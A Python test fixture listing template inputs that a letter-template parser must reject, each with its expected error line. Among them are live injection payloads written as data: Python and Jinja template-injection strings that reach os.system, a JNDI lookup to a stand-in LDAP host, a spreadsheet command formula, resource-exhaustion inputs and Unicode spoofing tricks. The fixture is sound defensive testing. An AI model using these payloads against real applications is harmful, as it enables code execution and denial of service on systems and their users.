"""Wordings that must not be kept, each with the line in which it cannot be read.

They are read for a letter with the facts of ``test_wording.Trial``: a text ``about``, a date
``on``, lists ``posts`` and ``there``, rows ``rows``, and a choice ``mood``.
"""

from tcat_desktop.correspondence.wording.language import LONGEST

_DEEP = "".join("{if about}\n" for _ in range(9)) + "x\n" + "{end}\n" * 9

HOSTILE: dict[str, tuple[str, int]] = {
    # Reaching for something behind a name.
    "an attribute": ("Dear\n{about.upper}", 2),
    "a class": ("{about.__class__}", 1),
    "the classes behind a class": ("{''.__class__.__mro__[1].__subclasses__()}", 1),
    "a call": ("Hello\n\n{case.delete()}", 3),
    "a call of a field": ("{about()}", 1),
    "a method": ("{about.format(self)}", 1),
    "an index": ("{posts[0]}", 1),
    "an index by name": ("{about['x']}", 1),
    "a name of Python’s own": ("One\nTwo\n{__class__}", 3),
    "a built-in": ("{__import__('os').system('calc')}", 1),
    "globals of a field": ("{each.__init__.__globals__}", 1),
    "arithmetic": ("{7*7}", 1),
    "a conversion": ("{about!r}", 1),
    "a width": ("{about:>100000000}", 1),
    "a format within a format": ("{about:{phone}}", 1),
    # Other languages.
    "Jinja’s braces": ("Dear\n{{7*7}}", 2),
    "Jinja’s braces round a field": ("Dear {{ about }}", 1),
    "a statement of Jinja": ("a\nb\nc\n{% for x in ().__class__.__base__ %}", 4),
    "a comment of Jinja": ("{# nothing #}", 1),
    "a dollar and a brace": ("${jndi:ldap://x.example/a}", 1),
    "a formula": ("{=cmd|'/c calc'!A0}", 1),
    "a loop of Python": ("{for x in range(10**9)}x{end}", 1),
    "a walrus": ("{if (x := about)}x{end}", 1),
    "an or": ("{if about or phone}x{end}", 1),
    # Not closed, not opened, too much.
    "an if that does not end": ("One\n{if about}\nTwo\nThree", 2),
    "a for that does not end": ("{for each in posts}\n1. {each}", 1),
    "an end without a beginning": ("One\n\n{end}", 3),
    "an else without an if": ("One\n{else}\nTwo", 2),
    "two elses": ("{if about}a{else}b\n{else}c{end}", 2),
    "an else in a for": ("{for each in posts}{each}\n{else}none{end}", 2),
    "a lone opening brace": ("One\n{about", 2),
    "a lone closing brace": ("One\nabout}", 2),
    "a field over two lines": ("One {about\n} two", 1),
    "nine ifs inside one another": (_DEEP, 9),
    "a thousand ifs": ("{if about}" * 1000, 1),
    "a for within a for": ("{for each in posts}\n{for each in there}x{end}{end}", 2),
    "a million characters": ("a" * 999_990 + "\n{about}", 1),
    "a little too long": ("word\n" * (LONGEST // 5 + 1), LONGEST // 5 + 1),
    "nothing": ("  \n\n ", 1),
    "empty braces": ("One\n{ }", 2),
    # Names, formats and kinds that this letter does not have.
    "an unknown name": ("Dear {nmae}", 1),
    "a name in capitals": ("Dear {ABOUT}", 1),
    "a name in Cyrillic that looks the same": ("Dear {аbout}", 1),
    "an unknown format": ("{about:shout}", 1),
    "a format of another kind": ("{on:phrase}", 1),
    "a count of a text": ("{if about counts 1}x{end}", 1),
    "a count without words": ("{posts:count}", 1),
    "a count with one word": ("{posts:count post}", 1),
    "a date that is words": ('{if on is "Monday"}x{end}', 1),
    "a choice that is not offered": ('One\n{if mood is "wild"}x{end}', 2),
    "a loop over a text": ("One\n{for each in about}x{end}", 2),
    "a loop over a date": ("{for each in on}x{end}", 1),
    "an each outside a loop": ("One\n\n\n{each}", 4),
    "a row printed whole": ("{for each in rows}{each}{end}", 1),
    "rows printed whole": ("{rows}", 1),
    "a column that is not there": ("{for each in rows}{each.secret}{end}", 1),
    "a field that may be empty": ("One\n{care}", 2),
    "two stars without a second": ("One\n**Two.\nThree", 2),
    "two stars in the last line": ("One\n\nThe **end", 3),
    "slanted within strong": ("**a //b// c**", 1),
    "strong that leaves its if": ("{if about}**a{end}**", 1),
    "a row of three cells": ("One\n\n| a | b | c", 3),
    "a row that does not fit its table": ("|= a | b | c\n| 1 | 2", 2),
    # What nobody can see.
    "a null byte": ("One\nTwo\x00", 2),
    "a null byte in a name": ("{abo\x00ut}", 1),
    "an escape": ("One\n\x1b[31m", 2),
    "a mark of direction in a keyword": ("{i\u202ef about}x{end}", 1),
    "words turned round": ("One\nTwo\n\u202eevil", 3),
    "a space without width in a name": ("{ab\u200bout}", 1),
    "half of a character": ("One \ud800", 1),
    "braces of full width": ("One\n{about\uff5d", 2),
}
